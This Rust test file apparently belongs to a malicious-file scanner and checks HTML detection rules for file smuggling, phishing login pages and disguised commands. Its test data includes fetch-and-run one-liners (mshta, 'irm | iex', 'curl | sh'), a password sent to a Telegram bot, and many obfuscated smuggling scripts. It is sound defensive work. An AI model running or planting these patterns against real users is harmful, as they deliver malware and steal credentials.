use base64::Engine as _;

use crate::forge::text::smuggling;
use crate::forge::{Case, Example, Specimen, case, fired, noise, pe, png, type_of};
use sheepdip::model::report::{FileReport, Verdict};

pub const SPECIMENS: &[Specimen] = &[
    ("html", || b"<!DOCTYPE html>\n<html><head><title>x</title></head><body><p>hello</p></body></html>".to_vec()),
    ("xhtml", || {
        b"<?xml version=\"1.0\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>x</p></body></html>".to_vec()
    }),
    ("hta", || {
        b"<html><head><HTA:APPLICATION ID=\"a\" /><script language=\"VBScript\">' nothing\n</script></head></html>"
            .to_vec()
    }),
];

fn page(body: &str) -> Case {
    case("page.html", format!("<!DOCTYPE html>\n<html><head><title>A page</title></head><body>{body}</body></html>"))
}

fn script(code: &str) -> Case {
    page(&format!("<script>\n{code}\n</script>"))
}

fn base64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn percent(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02X}")).collect()
}

/// A script that saves what `data` says under a name.
fn saving(data: &str) -> Case {
    script(&format!(
        "var data = {data};\nvar blob = new Blob([data], {{type: 'octet/stream'}});\nvar a = document.createElement('a');\n\
         a.href = URL.createObjectURL(blob);\na.download = 'invoice.iso';\na.click();"
    ))
}

/// An archive with a member that does nothing.
fn archive() -> Vec<u8> {
    crate::forge::zip::of("notes.txt", b"words and nothing else, for long enough to be some bytes")
}

/// A message with a page that asks for a password.
fn mailed(disposition: &str) -> Case {
    case(
        "a.eml",
        format!(
            "From: a@x.invalid\r\nTo: b@x.invalid\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; \
             boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nwords\r\n--b\r\nContent-Type: text/html\r\n\
             Content-Disposition: {disposition}\r\n\r\n<html><body><form action=\"/in\">{LOGIN}</body></html>\r\n--b--\r\n"
        ),
    )
}

const LOGIN: &str = "<input name=user><input type=\"password\" name=p><button>Sign in</button></form>";

pub const EXAMPLES: &[Example] = &[
    Example {
        rule: "html.smuggling",
        fires: || case("invoice.html", smuggling(&archive())),
        // A chart that can be saved as a picture: a library, a picture, a download, and no load.
        silent: || case("report.html", smuggling(&noise(60)).replace("zip", "png")),
    },
    Example {
        rule: "html.carries-program",
        fires: || script(&format!("var data = '{}';", base64(&pe::minimal()))),
        silent: || case("page.html", smuggling(&png::with_chunks(8, 8, &[png::chunk(b"tEXt", &[b'a'; 900])]))),
    },
    Example {
        rule: "html.carries-archive",
        fires: || script(&format!("var data = '{}';", base64(&archive()))),
        silent: || script(&format!("var data = '{}';", base64(&png::plain()))),
    },
    Example {
        rule: "html.saves-document",
        fires: || case("a.html", smuggling(&crate::forge::pdf::plain()).replace("invoice.zip", "invoice.pdf")),
        silent: || {
            case("a.html", smuggling(&crate::forge::pdf::plain()).replace("a.click()", "document.body.append(a)"))
        },
    },
    Example {
        rule: "html.saves-unknown-data",
        fires: || case("a.html", smuggling(&noise(9000)).replace("invoice.zip", "invoice.dat")),
        silent: || {
            case("a.html", smuggling(&noise(9000)).replace("invoice.zip", "a.dat").replace("a.click()", "show(a)"))
        },
    },
    Example {
        rule: "html.local-handler",
        fires: || case("a.html", "<html><script>location.href = \"ms-msdt:/id PCWDiagnostic\";</script></html>"),
        silent: || {
            case(
                "a.html",
                "<html><p>Attackers misuse ms-msdt: links, see <a href=\"https://x.invalid/ms-msdt:\">here</a></html>",
            )
        },
    },
    Example {
        rule: "html.redirect-to-file",
        fires: || {
            case("a.html", "<html><meta http-equiv=\"refresh\" content=\"0; url=file://10.0.0.1/share/a.html\"></html>")
        },
        silent: || case("a.html", "<html><meta http-equiv=\"refresh\" content=\"0; url=guide/index.html\"></html>"),
    },
    Example {
        rule: "html.hidden-destination",
        fires: || script(&format!("window.location.replace(atob('{}'));", base64(b"https://login.x.invalid/a?b=c"))),
        silent: || script("window.location.replace('https:\\/\\/www.x.invalid\\/guide');"),
    },
    Example {
        rule: "html.leads-elsewhere",
        fires: || script("window.location.href = 'https://www.x.invalid/guide';"),
        silent: || script("document.getElementById('logo').href = 'https://www.x.invalid/'; location.hash = '#a'"),
    },
    Example {
        rule: "html.hidden-code",
        fires: || {
            let code = base64(b"var a = 1; document.title = 'some words'; show(a, document.title, 2);");
            script(&format!("eval(atob('{code}'));"))
        },
        silent: || script("var value = eval('(' + answer + ')'); var name = atob('c29tZSB3b3Jkcw==');"),
    },
    Example {
        rule: "html.hidden-page",
        fires: || {
            let words = "<p>Some words of the page that nobody is to see before it is shown. </p>".repeat(4);
            script(&format!("document.write(unescape('{}'));", percent(&format!("<html><body>{words}</body></html>"))))
        },
        silent: || {
            script(
                "document.write(unescape(\"%3Cscript src='\" + host + \"counter.invalid/ga.js' \
                 type='text/javascript'%3E%3C/script%3E\"));",
            )
        },
    },
    Example {
        rule: "html.hidden-login",
        fires: || {
            let form = format!("<form method=post action=\"https://x.invalid/a.php\">{LOGIN}");
            script(&format!("document.write(atob('{}'));", base64(form.as_bytes())))
        },
        silent: || page(&format!("<form method=post action=\"/login\">{LOGIN}")),
    },
    Example {
        rule: "html.scrambled-script",
        fires: || script(&(0..80).map(|i| format!("var _0x{i:04x}=_0x1a2b({i});")).collect::<String>()),
        silent: || script("var colour = 0xFF00FF; var _0x = 1;"),
    },
    Example {
        rule: "html.asks-for-password",
        fires: || page(&format!("<form method=post action=\"/login\">{LOGIN}")),
        silent: || page("<form action=\"/search\"><input type=text name=q></form><p>Forgot your password?</p>"),
    },
    Example {
        rule: "html.mailed-login",
        fires: || mailed("attachment; filename=\"Secure.html\""),
        // The text of a message asks for nothing that its reader's program would send.
        silent: || mailed("inline"),
    },
    Example {
        rule: "html.password-sent-elsewhere",
        fires: || page(&format!("<form method=post action=\"https://x.invalid/a.php\">{LOGIN}")),
        silent: || {
            page(&format!(
                "<link rel=canonical href=\"https://www.x.invalid/\"><form method=post action=\"https://sso.x.invalid/in\">{LOGIN}"
            ))
        },
    },
    Example {
        rule: "html.false-login",
        fires: || {
            page(&format!(
                "<form>{LOGIN}<script>fetch('https://api.telegram.org/bot123:x/sendMessage?chat_id=1&text=' + p)</script>"
            ))
        },
        silent: || {
            page("<p>See https://api.telegram.org/bot123/getMe</p><form action=\"/search\"><input name=q></form>")
        },
    },
    Example {
        rule: "html.hidden-frame",
        fires: || page("<iframe src=\"https://x.invalid/a\" width=0 height=0></iframe>"),
        silent: || {
            page(
                "<noscript><iframe src=\"https://www.googletagmanager.com/ns.html?id=x\" height=\"0\" width=\"0\" \
                 style=\"display:none\"></iframe></noscript><iframe src=\"https://x.invalid/film\" width=640 height=480></iframe>",
            )
        },
    },
    Example {
        rule: "html.network-share",
        fires: || page("<img src=\"file://203.0.113.9/share/a.png\">"),
        silent: || page("<img src=\"file:///C:/Users/me/a.png\"><a href=\"\\\\server\\share\\plan.docx\">plan</a>"),
    },
    Example {
        rule: "html.starts-object",
        fires: || page("<object classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\" id=x></object>"),
        silent: || {
            page(
                "<object classid=\"clsid:D27CDB6E-AE6D-11cf-96B8-444553540000\"><param name=movie value=a.swf></object>",
            )
        },
    },
    Example {
        rule: "html.paste-command",
        fires: || {
            page(
                "<p>Verify you are human: press <b>Windows</b> + <kbd>R</kbd>, then <b>Ctrl</b> + <b>V</b> and Enter</p>\
                 <script>navigator.clipboard.writeText('mshta https://x.invalid/a')</script>",
            )
        },
        silent: || {
            page(
                "<p>Press Windows + R and paste the name</p><pre>curl https://x.invalid/a</pre><script>function copy(e) {\
                 navigator.clipboard.writeText(e.innerText) }</script>",
            )
        },
    },
    Example {
        rule: "html.copies-command",
        fires: || {
            page(
                "<p>Install it from a shell:</p><button onclick=\"navigator.clipboard.writeText('powershell -c &quot;irm \
                 https://x.invalid/i.ps1 | iex&quot;')\">Copy</button>",
            )
        },
        silent: || page("<button onclick=\"navigator.clipboard.writeText('Some words to be copied')\">Copy</button>"),
    },
];

#[test]
fn an_honest_page_is_clean() {
    let page = "<!DOCTYPE html><html><head><script>var a = document.getElementById('x'); a.href = '#';</script></head>\
                <body><img src=\"data:image/png;base64,AAAA\"><pre>curl https://x.invalid | sh</pre></body></html>";
    let report = case("page.html", page).examine();
    assert_eq!(type_of(&report), "html");
    assert_eq!(report.judgement.verdict, Verdict::Clean, "{:?}", fired(&report));
}

/// The names of what is in it.
fn inside(report: &FileReport) -> Vec<&str> {
    report
        .artifacts
        .iter()
        .skip(1)
        .filter_map(|a| a.claim.name.as_ref())
        .map(sheepdip::model::name::Name::text)
        .collect()
}

#[test]
fn a_smuggled_file_is_found_in_whatever_way_it_is_written() {
    let file = archive();
    let letters = base64(&file);
    let hex: String = file.iter().map(|b| format!("{b:02x}")).collect();
    let list = |f: &dyn Fn(u8) -> String| file.iter().map(|b| f(*b)).collect::<Vec<_>>().join(",");
    let chunks: Vec<String> =
        letters.as_bytes().chunks(20).map(|c| format!("'{}'", String::from_utf8_lossy(c))).collect();
    let backwards: String = letters.chars().rev().collect();
    let junk: String = letters.chars().map(|c| format!("{c}!")).collect();
    let masked = |key: &[u8]| base64(&file.iter().zip(key.iter().cycle()).map(|(b, k)| b ^ k).collect::<Vec<_>>());
    for data in [
        format!("atob('{letters}')"),
        format!("window['a' + 'tob'](\"{letters}\")"),
        chunks.join(" + "),
        format!("[{}].join('')", chunks.join(",")),
        format!("'';\ndata += {};\nx()", chunks.join(";\ndata += ")),
        format!("'{backwards}'.split('').reverse().join('')"),
        format!("'{backwards}'"),
        format!("'{junk}'.replace(/[!]/g, '')"),
        format!("'{junk}'.split('!').join('')"),
        format!("'{hex}'"),
        format!("[{}]", list(&|b| b.to_string())),
        format!("new Uint8Array([{}])", list(&|b| format!("0x{b:02x}"))),
        format!("[{}]", list(&|b| (b as i8).to_string())),
        format!("'{}'.split(',')", list(&|b| b.to_string())),
        format!("'{}'.split(' ')", list(&|b| format!("{b:02X}")).replace(',', " ")),
        format!("'{}'", list(&|b| format!("\\x{b:02x}")).replace(',', "")),
        format!("unescape('{}')", list(&|b| format!("%{b:02X}")).replace(',', "")),
        format!("String.fromCharCode({})", list(&|b| b.to_string())),
        format!("unmask('{}', 0x5A)", masked(&[0x5A])),
        format!("unmask('{}', 'secret')", masked(b"secret")).replace("var data", "var key = 'secret'; var data"),
        format!(
            "`{}`",
            letters.as_bytes().chunks(60).map(|c| String::from_utf8_lossy(c)).collect::<Vec<_>>().join("\n")
        ),
    ] {
        let report = saving(&data).examine();
        assert!(fired(&report).contains(&"html.smuggling"), "{data}: {:?}", fired(&report));
        assert_eq!(inside(&report).first(), Some(&"invoice.iso"), "{data}");
        assert_eq!(report.judgement.verdict, Verdict::Dangerous);
    }
}

#[test]
fn a_smuggled_file_need_not_stand_in_a_script() {
    let letters = base64(&archive());
    let save = "<script>var d = document.getElementById('d'); var b = new Blob([Uint8Array.from(atob(d.innerText))]);\
                a.href = URL.createObjectURL(b); a.setAttribute('download', 'plan.zip'); a.click()</script>";
    for place in [
        format!("<div id=d style='display:none'>{letters}</div>{save}"),
        format!("<input id=d type=hidden value='{letters}'>{save}"),
        format!("<script type='text/plain' id=d>{letters}</script>{save}"),
        format!("<!-- {letters} -->{save}"),
    ] {
        let report = page(&place).examine();
        assert!(fired(&report).contains(&"html.smuggling"), "{place}: {:?}", fired(&report));
        assert_eq!(inside(&report).first(), Some(&"plan.zip"), "{place}");
    }
}

#[test]
fn a_link_that_holds_a_file_is_judged_by_what_the_file_is() {
    let zip = |name: &str, data: &[u8]| base64(&crate::forge::zip::of(name, data));
    let (words, program) = (zip("notes.txt", b"words"), zip("notes.exe", &pe::minimal()));
    let locked =
        crate::forge::zip::archive(&[crate::forge::zip::locked(crate::forge::zip::stored("a.txt", "words"), "x")]);
    for (link, verdict, rule) in [
        (
            format!("href='data:application/zip;base64,{words}' download='plan.zip'"),
            Verdict::Suspicious,
            "html.carries-archive",
        ),
        (
            format!("href='data:application/zip;base64,{program}' download='plan.zip'"),
            Verdict::Dangerous,
            "html.smuggling",
        ),
        (format!("href='data:x/y;base64,{}' download=plan.zip", base64(&locked)), Verdict::Dangerous, "html.smuggling"),
        (
            format!("download='plan.zip' href='data:x/y;base64,{}'", program.replace('=', "%3D").replace('+', "%2B")),
            Verdict::Dangerous,
            "html.smuggling",
        ),
    ] {
        let report = page(&format!("<a {link}>Open</a>")).examine();
        assert!(fired(&report).contains(&rule), "{link}: {:?}", fired(&report));
        assert_eq!(report.judgement.verdict, verdict, "{link}: {:?}", fired(&report));
        assert_eq!(inside(&report).first(), Some(&"plan.zip"), "{link}");
    }
}

#[test]
fn a_smuggled_file_is_found_though_the_script_is_scrambled() {
    use std::io::Write as _;
    let letters = base64(&archive());
    let mut packer = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    packer.write_all(&archive()).unwrap();
    let packed = base64(&packer.finish().unwrap());
    let drawing = format!(
        "<svg xmlns='http://www.w3.org/2000/svg'><script>a.href = URL.createObjectURL(new Blob([atob('{letters}')])); \
         a.download = 'plan.zip'; a.click()</script></svg>"
    );
    for body in [
        format!(
            "<script>var _0x1=['\\x63\\x6c\\x69\\x63\\x6b','\\x64\\x6F\\x77\\x6E\\x6C\\x6F\\x61\\x64'],q='{letters}';\
             l[_0x1[0x1]]='plan.zip';l.href=URL['create'+'ObjectURL'](new Blob([q]));l[_0x1[0]]()</script>"
        ),
        format!("<embed src=\"data:image/svg+xml;base64,{}\">", base64(drawing.as_bytes())),
        format!(
            "<script>var d='{packed}', s=new DecompressionStream('deflate-raw'); a.href=URL.createObjectURL(b); \
             a.download='plan.zip'; a.click()</script>"
        ),
        format!(
            "<script>eval(function(p,a,c,k,e,d){{while(c--)p=p.replace(c,k[c]);return p}}(\"0 1='{letters}';2.3='plan.4'\",62,5,\
             'var|data|link|download|zip'.split('|'),0,{{}}))</script>"
        ),
    ] {
        let report = page(&body).examine();
        assert!(fired(&report).contains(&"html.smuggling"), "{body}: {:?}", fired(&report));
        assert_eq!(inside(&report).first(), Some(&"plan.zip"), "{body}");
    }
}

#[test]
fn layers_are_unpacked_one_after_the_other() {
    let mut code = format!(
        "var data = '{}'; a.download = 'a.exe'; save(new Blob([data])); saveAs(b, 'a.exe')",
        base64(&pe::minimal())
    );
    for _ in 0..5 {
        code = format!("eval(atob('{}'))", base64(code.as_bytes()));
    }
    let report = script(&code).examine();
    assert!(fired(&report).contains(&"html.smuggling"), "{:?}", fired(&report));
    for _ in 0..6 {
        code = format!("eval(atob('{}'))", base64(code.as_bytes()));
    }
    let report = script(&code).examine();
    assert!(report.judgement.verdict > Verdict::Clean);
    assert!(!report.gaps.is_empty(), "what is nested too deep is told");
}

#[test]
fn a_script_that_a_page_saves_is_examined() {
    let report = script(
        "var text = 'CreateObject(\"WScript.Shell\").Run \"nothing\"'; var b = new Blob([text]); \
         navigator.msSaveOrOpenBlob(b, 'Order.vbs')",
    )
    .examine();
    assert_eq!(inside(&report), ["Order.vbs"]);
    assert_eq!(report.judgement.verdict, Verdict::Dangerous, "{:?}", fired(&report));
}

#[test]
fn false_login_pages_are_told_from_honest_ones() {
    for (body, rule) in [
        ("<title>Microsoft account</title><form method=post action=\"https://x.invalid/p.php\">", "html.false-login"),
        ("<form action=\"https://x.invalid/p.php\"><input type=email value=\"me@firm.invalid\">", "html.false-login"),
        ("<form method=POST action='//203.0.113.9/p'>", "html.password-sent-elsewhere"),
        (
            "<script>$.ajax({url: 'https://x.invalid/post.php', type: 'POST'})</script><form>",
            "html.password-sent-elsewhere",
        ),
        ("<script>var u = 'https://formspree' + '.io/f/x'; fetch(u)</script><form>", "html.false-login"),
    ] {
        let report = page(&format!("{body}{LOGIN}")).examine();
        assert!(fired(&report).contains(&rule), "{body}: {:?}", fired(&report));
    }
    for body in [
        "<form action=\"{% url 'login' %}\" method=post>",
        "<form action=\"http://localhost:8080/login\" method=post>",
        "<title>Sign in with Microsoft</title><form action=\"\">",
        "<title>Outlook</title><form method=post action=\"https://login.live.com/ppsecure/post.srf\">\
         <base href=\"https://login.live.com/\">",
    ] {
        let report = page(&format!("{body}{LOGIN}")).examine();
        assert_eq!(fired(&report), ["html.asks-for-password"], "{body}");
        assert_eq!(report.judgement.verdict, Verdict::Clean);
    }
}

#[test]
fn a_page_that_fetches_a_file_at_once_is_suspicious() {
    for body in [
        "<iframe src='https://x.invalid/a/order.iso'></iframe>",
        "<script>location = 'https://x.invalid/a/order.zip?b=c'</script>",
        "<script>window['loca' + 'tion']['href'] = '//x.invalid/a/order.js'</script>",
        "<meta http-equiv=Refresh content='1;URL=https://x.invalid/order.hta'>",
        "<style>body { background: url('file://203.0.113.9/a/b.png') }</style>",
        "<link rel=stylesheet href='\\\\203.0.113.9\\a\\b.css'>",
    ] {
        let report = page(body).examine();
        assert_eq!(report.judgement.verdict, Verdict::Suspicious, "{body}: {:?}", fired(&report));
    }
    for body in [
        "<a href='https://x.invalid/a/setup.exe'>Download</a>",
        "<script>location = 'https://order.zip/'; var file = 'https://x.invalid/a/order.zip'</script>",
        "<style>body { background: url('a/b.png') }</style><meta http-equiv=refresh content='5'>",
    ] {
        let report = page(body).examine();
        assert_eq!(report.judgement.verdict, Verdict::Clean, "{body}: {:?}", fired(&report));
    }
}

#[test]
fn a_page_hidden_behind_strange_comments_is_read() {
    for start in [
        "<!-->",
        "<!--->",
        "<!-- x --!>",
        "<![CDATA[ >",
        "<!DOCTYPE html [ >",
        "<title>x</title ><textarea></textarea>",
    ] {
        let text = format!("<html>{start}<script>location.href = 'search-ms:query=a&crumb=b'</script></html>");
        let report = case("a.html", text).examine();
        assert!(fired(&report).contains(&"html.local-handler"), "{start}: {:?}", fired(&report));
    }
}

#[test]
fn hostile_pages_are_read_quickly() {
    let million = 1 << 18;
    for (what, body) in [
        ("scripts", "<script>".repeat(25_000)),
        ("closed scripts", "<script>a='b'</script>".repeat(12_000)),
        ("uses", format!("<script>a='{}';{}</script>", "b".repeat(1000), "f(a);".repeat(million / 4))),
        ("brackets", format!("<script>{}</script>", "[".repeat(million))),
        ("calls", format!("<script>{}</script>", "atob(".repeat(million / 4))),
        ("sums", format!("<script>a='b'{}</script>", "+'c'".repeat(million / 4))),
        ("appends", format!("<script>a='b';{}</script>", "a+='c';".repeat(million / 8))),
        ("doubling", format!("<script>a='bbbb';{}</script>", "a=a+a;".repeat(64))),
        ("slashes", format!("<script>{}</script>", "(/".repeat(million / 2))),
        ("quotes", format!("<script>{}</script>", "'\n\"".repeat(million / 2))),
        ("attributes", format!("<a {}>", "b=\"c\" ".repeat(million / 8))),
        ("comments", "<!--".repeat(million / 4)),
        ("letters", "TVqQAAMAAAAEAAAA".repeat(million / 16)),
        ("cut letters", "TVqQAAMAAAAEAAAA\n".repeat(million / 16)),
        ("forms", "<form><input type=password>".repeat(million / 32)),
        ("links", "<a href='data:text/html,<a href=data:text/html,x>'>".repeat(5_000)),
        ("splits", format!("<script>a='{}'.split('').reverse().join('x')</script>", "b".repeat(million))),
    ] {
        let begin = std::time::Instant::now();
        let report = page(&body).examine();
        assert!(report.gaps.iter().all(|g| g.gap.reason.word() != "crashed"), "{what}: {:?}", report.gaps);
        assert!(begin.elapsed().as_secs() < 20, "{what}: {:?}", begin.elapsed());
    }
}

#[test]
fn a_page_with_zeros_strewn_in_is_still_a_page() {
    let page: Vec<u8> =
        "<html><head><hta:application id=x><script>var a = 1;</script></head><body>some text</body></html>"
            .bytes()
            .enumerate()
            .flat_map(|(i, b)| if i % 7 == 3 { vec![b, 0] } else { vec![b] })
            .collect();
    assert_eq!(type_of(&case("a.txt", page).examine()), "hta");
}

#[test]
fn a_page_behind_a_picture_is_dangerous_when_it_runs() {
    let mut bytes = png::plain();
    bytes.extend(
        b"<html><hta:application id=x><script language=\"VBScript\">CreateObject(\"WScript.Shell\")</script></html>",
    );
    let report = case("photo.png", bytes).examine();
    assert_eq!(report.judgement.verdict, Verdict::Dangerous, "{:?}", fired(&report));
}

#[test]
fn a_picture_with_a_description_in_xml_is_silent() {
    let note = b"XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF>a</rdf:RDF></x:xmpmeta>";
    let report = case("photo.png", png::with_chunks(8, 8, &[png::chunk(b"iTXt", note)])).examine();
    assert_eq!(report.judgement.verdict, Verdict::Clean, "{:?}", fired(&report));
}
